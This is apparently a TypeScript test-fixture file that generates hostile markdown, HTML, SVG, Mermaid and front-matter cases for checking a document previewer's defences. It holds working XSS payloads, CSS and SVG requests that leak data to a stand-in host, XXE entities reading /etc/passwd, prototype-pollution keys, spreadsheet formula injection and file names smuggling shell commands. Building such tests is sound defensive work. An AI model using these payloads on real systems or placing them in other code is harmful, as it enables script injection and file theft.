import type { Draft, Tools } from '../hostile-case.ts';

/** HTML that acts without a handler, or only after a click. */
function elements({ web, script, outside }: Tools): Readonly<Record<string, string>> {
  return {
    'a dialog that a button opens': `<button commandfor=d command=show-modal>Go</button><dialog id=d><img src=x onerror="${script}"></dialog>`,
    'a popover': `<button popovertarget=p>Go</button><div popover id=p onbeforetoggle="${script}">over</div>`,
    'a shadow tree': `<div><template shadowrootmode=open><slot></slot><img src=x onerror="${script}"><style>:host{position:fixed;inset:0}</style></template>in</div>`,
    'a fenced frame': `<fencedframe src="${web}/fenced"></fencedframe><portal src="${web}/portal"></portal>`,
    'pages of the window in a frame':
      '<iframe src="offprint://app/index.html"></iframe><object data="offprint://app/index.html"></object><embed src="offprint://app/index.html">',
    'links to pages of the window':
      '<a href="offprint://app/index.html" target=_top>a</a> <a href="offprint://app/post-frame.html" target=_parent>b</a> [c](offprint://app/index.html) <a href="offprint-file://x/y" target=Post>d</a>',
    'pictures of the window': `![a](offprint://app/index.html) ![b](offprint-file://library/..%2F..%2Foutside/secret.gif) ![c](offprint-file://0/drawing/${outside}/secret.gif)`,
    'the name of a frame':
      '<a href="https://a.example/" target="Post">a</a> <iframe name="Post" srcdoc="<script>1</script>"></iframe> <form target="Post" action="x"><button>Go</button></form>',
    'a base for all targets': `<base target="_top" href="${web}/"><a href="x">a</a> [b](y) ![c](z.png)`,
    'a refresh within text that is not shown': `<noscript><meta http-equiv=refresh content="0;url=${web}/n"></noscript><noembed><meta http-equiv=refresh content="0;url=${web}/e"></noembed>`,
    'a policy of its own': `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'; report-uri ${web}/report"><script nonce="">${script}</script>`,
    'a map of imports': `<script type="importmap">{"imports":{"react":"${web}/react.js"}}</script><script type="text/html"><img src=x onerror="${script}"></script>`,
    'a list of rules': `<script type="speculationrules">{"prerender":[{"source":"document","eagerness":"immediate"}]}</script>[a](${web}/ahead)`,
    'a frame that names its powers': `<iframe allow="camera; clipboard-read" sandbox="allow-scripts allow-same-origin allow-top-navigation" csp="" src="data:text/html,<script>${script}</script>"></iframe>`,
    'a drawing with a filter that loads': `<svg><defs><filter id=f><feImage href="${web}/fe"/></filter><linearGradient id=g href="${web}/g#x"/></defs><rect filter="url(#f)" fill="url(${web}/fill#x)" clip-path="url(${web}/clip#x)"/></svg>`,
    'a drawing with links': `<svg><a xlink:href="javascript:${script}"><text y=20>a</text></a><a><set attributeName="xlink:href" to="javascript:${script}"/><text>b</text></a></svg>`,
    'a drawing that is moved': `<svg><image><animate attributeName=href values="${web}/moved" dur=1s begin=0s fill=freeze /></image><discard begin=0s onend="${script}"/></svg>`,
    'HTML in a drawing in a formula': `<math><annotation-xml encoding="application/xhtml+xml"><svg><foreignObject><math><mtext><svg><desc><img src=x onerror="${script}"></desc></svg></mtext></math></foreignObject></svg></annotation-xml></math>`,
    'a formula with actions': `<math><maction actiontype="statusline" xlink:href="javascript:${script}"><mtext>a</mtext><mtext>b</mtext></maction><mi href="javascript:${script}">c</mi><semantics><annotation src="${web}/ann" encoding="text/html">d</annotation></semantics></math>`,
    'a name space that changes': `<svg><style><img src="</style><img src=x onerror=${script}>"></style></svg><math><mglyph><malignmark><style><!--</style><img src=x onerror="${script}">--></math>`,
    'a table within a drawing': `<svg><desc><table><tr><td><svg><title><style></title><img src=x onerror="${script}"></table></desc></svg>`,
    'a processing instruction': `<?php ${script} ?><?xml-stylesheet href="${web}/style.xsl" type="text/xsl"?><!DOCTYPE html SYSTEM "${web}/dtd"><!ENTITY % x SYSTEM "file:///etc/passwd">`,
    'text that ends the document': `</div></article></main></body></html><body onload="${script}"><h1>Another</h1><frameset onload="${script}">`,
    'text that is never closed': `<textarea><style><title><xmp><noscript>`,
    'roles of the window':
      '<div role="alertdialog" aria-modal="true" aria-live="assertive" aria-owns="root app" tabindex="1" accesskey="f" contenteditable autofocus inert>Sign in</div>',
    'a field that takes the focus':
      '<input autofocus><textarea autofocus></textarea><div tabindex=0 autofocus contenteditable>a</div><a href="#" autofocus>b</a><summary autofocus>c</summary>',
    'a file that is wanted':
      '<input type=file webkitdirectory autofocus><input type=color><input type=date><a href="x" download="../../.bashrc">a</a><a href="data:text/plain,x" download="x.exe">b</a>',
    'names of the parts of a frame':
      '<a name="contentWindow" id="contentDocument">a</a><img name="defaultView" id="parent"><form id="top"><input name="location"></form><h2 id="__proto__">b</h2><h2 id="constructor">c</h2>',
    'styles that look through text': `<style>article:has(a[href^="https://b"]) { background: url(${web}/leak) } @font-face { font-family: x; src: url(${web}/font); unicode-range: U+41 } @import "${web}/i"; @namespace url(${web}/ns); @property --x { syntax: "<url>"; initial-value: url(${web}/p); inherits: true }</style><p style="font-family:x;background:var(--x);-webkit-mask:url(${web}/m);filter:url(${web}/f#x);offset-path:url(${web}/o#x);image-set(${web})">a</p>`,
    'a face of a host':
      '![a](\\\\127.0.0.1\\share\\x.png) <img src="//127.0.0.1/share/x.png"> <img src="file://127.0.0.1/share/x.png"> [b](\\\\127.0.0.1\\share\\x.md) [c](file://127.0.0.1/share)',
    'names of devices':
      '![a](CON.png) ![b](aux.gif) ![c](nul) ![d](COM1.jpg) [e](lpt1.md) ![f](x.png::$DATA) ![g](C:\\Windows\\win.ini) ![h](\\\\?\\C:\\x.png) ![i](\\\\.\\pipe\\x)',
    'pictures of a process':
      '![a](/proc/self/environ) ![b](/dev/zero) ![c](/dev/stdin) ![d](../../../../../../proc/self/mem) <video src="/dev/zero"></video> <audio src="/dev/random"></audio>',
    'signs that can’t be decoded':
      '[a](#%E0%A4%A) [b](%) [c](x%ZZ.md) ![d](%FF%FE.png) <a href="%00">e</a> [f](?) [g](#) [h](<>) [i](x\\u0000y)',
  };
}

/** Diagrams that load, lead away or change the page. */
function diagrams({ web, script }: Tools): Readonly<Record<string, string>> {
  return {
    'settings that are not safe': `%%{init: {"securityLevel":"loose","htmlLabels":true,"secure":[],"maxTextSize":9e99}}%%\ngraph TD\n A["<img src=x onerror=${script}>"] --> B\n click A call alert("1")\n click B href "javascript:${script}" _top`,
    'settings above it': `---\nconfig:\n  securityLevel: loose\n  themeCSS: "@import url(${web}/css)"\n  fontFamily: "x; } * { background: url(${web}/font) }"\n---\ngraph TD\n A --> B`,
    'aliases above it': `---\nconfig: &a [*a, *a]\nb: &b { c: *b, __proto__: { polluted: 1 } }\n---\ngraph TD\n A --> B`,
    'a picture of the web': `flowchart TD\n A@{ img: "${web}/image", label: "a", w: 60, h: 60 }\n B@{ icon: "fa:user", form: square }\n A --> B`,
    'styles that load': `graph TD\n A --> B\n style A fill:url(${web}/fill),background:url(${web}/bg)\n classDef x fill:url("${web}/x#a")\n class B x\n linkStyle 0 stroke:url(${web}/l#a)`,
    'names of objects':
      'graph TD\n __proto__ --> constructor\n toString --> hasOwnProperty\n subgraph prototype\n  valueOf\n end\n classDef __proto__ fill:#f00\n class toString __proto__',
    'formulas with links': `graph TD\n A["$$\\\\href{javascript:${script}}{x}$$"] --> B["$$\\\\includegraphics{${web}/f}$$"]`,
    'links of a board': `---\nconfig:\n  kanban:\n    ticketBaseUrl: 'javascript:${script}//#TICKET#'\n---\nkanban\n  a\n    b[c]@{ ticket: 1 }`,
    'bits without an end': 'packet-beta\n0-99999999: "a"\n',
    'days without an end':
      'gantt\n dateFormat YYYY-MM-DD\n excludes weekends 2024-01-01\n tickInterval 1second\n a :2000-01-01, 9999-12-31\n',
    'columns without an end': `block-beta\n columns 99999999\n a:99999999 space:99999999 b`,
    'circles of flows': 'sankey-beta\na,b,1\nb,c,1\nc,a,1\na,a,1\n',
    'numbers that are none':
      'xychart-beta\n x-axis 0 --> 1e308\n y-axis -1e308 --> 1e308\n line [1e308, -1e308, 1e-308]\n',
    'a chart of many circles': 'radar-beta\n axis a, b, c\n curve x{1,2,3}\n max 1e308\n ticks 99999999\n',
    'a word of 100 kB': `sequenceDiagram\n ${'A'.repeat(20_000)}->>B: ${'w'.repeat(25_000)}`,
  };
}

/** Front matter that leads elsewhere or is of no use to a reader. */
function headers({ web, script }: Tools): Readonly<Record<string, string>> {
  return {
    'keys of objects in JSON':
      '{ "title": "ID", "__proto__": { "polluted": 1 }, "constructor": { "prototype": { "polluted": 1 } }, "toString": 1, "hasOwnProperty": 1 }',
    'keys of objects in TOML':
      '+++\ntitle = "ID"\n"__proto__".polluted = 1\n["constructor"."prototype"]\npolluted = 1\n+++',
    'merged keys of objects': '---\ntitle: ID\na: &a { __proto__: { polluted: 1 } }\n<<: *a\n<<: [*a, *a]\n---',
    'circles of aliases':
      '---\ntitle: ID\ntags: &a [x, *a]\nauthor: &b { name: *b, url: *b }\nseries: *a\ncover: *b\n---',
    'numbers without an end':
      '{ "title": "ID", "date": 1e999999, "weight": -1e999999, "tags": [1e400, 12345678901234567890123] }',
    'dates that do not exist': '+++\ntitle = "ID"\ndate = 9999-99-99T99:99:99Z\nlastmod = 0000-00-00\n+++',
    'a language that is none': `---\ntitle: ID\nlang: "${'x-'.repeat(5_000)}"\nlanguage: "__proto__"\nlocale: "../../x"\ntimezone: "../../etc/localtime"\n---`,
    'addresses that run': `---\ntitle: ID\nurl: "javascript:${script}"\nlink: "javascript:${script}"\npermalink: "//127.0.0.1/x"\ncanonical_url: "data:text/html,<script>${script}</script>"\nexternal_url: "file:///etc/passwd"\n---`,
    'covers of every kind': `---\ntitle: ID\ncover: "data:image/svg+xml,<svg onload='${script}'/>"\nimage: { src: "${web}/src", url: "${web}/url" }\nthumbnail: "\\\\\\\\127.0.0.1\\\\share\\\\x.png"\nbanner: "file://127.0.0.1/x.png"\nhero: "offprint://app/index.html"\n---`,
    'a slug that climbs':
      '---\ntitle: ID\nslug: "../../../../etc/passwd"\npermalink: "/../../x/:title/"\naliases: ["/../../", "//127.0.0.1/", "javascript:1", "a\\nb"]\n---',
    'tags of marks': `---\ntitle: ID\ntags: ["\\u202Egnp.exe", "a\\nb", "a\\0b", "<img src=x onerror=${script}>", "=cmd|' /C calc'!A0", "__proto__", "", " ", "\\uD800", "/", "a//b", "..", "#", "\\"quoted\\" -not (a OR"]\n---`,
    'a title that is a formula': `---\ntitle: "=HYPERLINK(\\"${web}/csv\\") ID"\nauthor: "@SUM(1+1)*cmd|' /C calc'!A0"\ncategory: "+1"\n---`,
    'a title of 1 MB': `---\ntitle: "ID ${'\u200D\u{1F468} '.repeat(150_000)}"\n---`,
    'a title of lines': `---\ntitle: |\n  ID\n${'  line\n'.repeat(20_000)}---`,
    'a description of markup': `---\ntitle: ID\ndescription: "${'**a** [b](javascript:1) <b>c</b> {{ d }} '.repeat(10_000)}"\n---`,
  };
}

/** Drawings of the folder that load or read. */
function drawings({ web, outside, script }: Tools): Readonly<Record<string, string>> {
  const svg = (content: string, head = '') =>
    `${head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90">${content}</svg>`;
  return {
    'entities of files': svg(
      '<text y="20">&x;</text>',
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://${outside}/secret.md"><!ENTITY % y SYSTEM "${web}/dtd">%y;]>`,
    ),
    'a style sheet of the web': svg(
      `<style>@import "${web}/import"; @font-face { font-family: f; src: url(${web}/font) } text { font-family: f }</style><text y="20">a</text>`,
      `<?xml-stylesheet href="${web}/style" type="text/css"?><?xml-stylesheet href="${web}/xsl" type="text/xsl"?>`,
    ),
    'pictures of the web': svg(
      `<image href="${web}/image"/><feImage href="${web}/fe"/><use href="${web}/use#a"/><foreignObject width="90" height="90"><img xmlns="http://www.w3.org/1999/xhtml" src="${web}/img" srcset="${web}/set 1x"/><video xmlns="http://www.w3.org/1999/xhtml" src="${web}/video" autoplay=""/></foreignObject><image href="file://${outside}/secret.gif"/><image href="../outside/secret.gif"/>`,
    ),
    'scripts of every kind': svg(
      `<script href="data:text/javascript,${encodeURIComponent(script)}"/><script xlink:href="${web}/s"/><a href="javascript:${script}"><rect width="90" height="90" onclick="${script}" onload="${script}"/></a><set attributeName="onload" to="${script}"/><handler xmlns="http://www.w3.org/2001/xml-events" type="application/ecmascript">${script}</handler>`,
    ),
    'drawings in addresses in each other': svg(
      Array.from({ length: 6 }).reduce<string>(
        (inner) =>
          `<image href="data:image/svg+xml;base64,${Buffer.from(svg(inner)).toString('base64')}" width="90" height="90"/>`,
        '<rect width="9" height="9"/>',
      ),
    ),
  };
}

/** Tricks that need no handler: what acts by itself, leads away, poses as something else, or reads another file. */
export function trickCases(tools: Tools): readonly Draft[] {
  return [
    ...Object.entries(elements(tools)).map(([name, body]) => ({ tries: `to trick by ${name}`, body })),
    ...Object.entries(diagrams(tools)).map(([name, source]) => ({
      tries: `to trick by a diagram with ${name}`,
      body: `\`\`\`mermaid\n${source}\n\`\`\``,
    })),
    ...Object.entries(headers(tools)).map(([name, header]) => ({ tries: `to trick by ${name}`, header, body: 'ID' })),
    ...Object.entries(drawings(tools)).map(([name, drawing]) => ({
      tries: `to trick by a drawing with ${name}`,
      body: '![x](ID.svg)\n\n<img src="ID.svg" loading=lazy>\n\n[open](ID.svg)',
      beside: { 'ID.svg': drawing },
    })),
    ...[
      '=cmd|calc!A0-ID.md',
      '-rf ID.md',
      '$(touch x)-ID.md',
      '`x`;ID&.md',
      'ID.md.exe.md',
      '~ID.md',
      'ID 💥\u200F.md',
      'con.ID.md',
      '&amp;<b>ID.md',
      'ID\u2028.md',
    ].map((name) => ({
      tries: `to trick by the name ${JSON.stringify(name.replace('ID', '…'))}`,
      whole: (id: string, end: string) => `${id}\n\n${end}\n`,
      file: (id: string) => name.replace('ID', id),
    })),
  ];
}
